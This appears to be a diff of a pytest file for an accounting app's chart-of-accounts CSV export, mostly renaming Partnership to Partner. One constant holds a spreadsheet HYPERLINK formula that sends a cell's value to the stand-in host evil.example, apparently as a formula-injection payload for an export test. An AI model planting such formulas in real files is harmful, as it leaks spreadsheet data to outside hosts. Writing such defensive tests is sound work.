@@ -9,14 +9,14 @@ import pytest
 from accounting.books.chart import STARTING_CHART
 from tests.builders.sales import invoice_body
 from tests.builders.trade import line
-from tests.partnership import Business, Partnership
+from tests.partner import Business, Partner
 
 ACCOUNTS = "general-ledger/chart-of-accounts/"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture(scope="module")
-def shop(acme: Partnership) -> Business:
+def shop(acme: Partner) -> Business:
     """A business whose year ends in March, with a sale before and one after that."""
     shop = acme.business(fiscal_year_end="2000-03-31")
     buyer = shop.customer()
@@ -86,7 +86,7 @@ class TestExportAccounts:
         answer = shop.api.get(f"{ACCOUNTS}export/", params={"fiscal_year": 2025})
         assert '"chart-of-accounts-2025.csv"' in answer.headers["content-disposition"]
 
-    def test_names_keep_their_letters(self, acme: Partnership) -> None:
+    def test_names_keep_their_letters(self, acme: Partner) -> None:
         assert exported(acme.business(coa_language="de"))["1100"]["name"] == "Geschäftskonto"
 
     def test_a_year_out_of_range_is_refused(self, shop: Business) -> None:
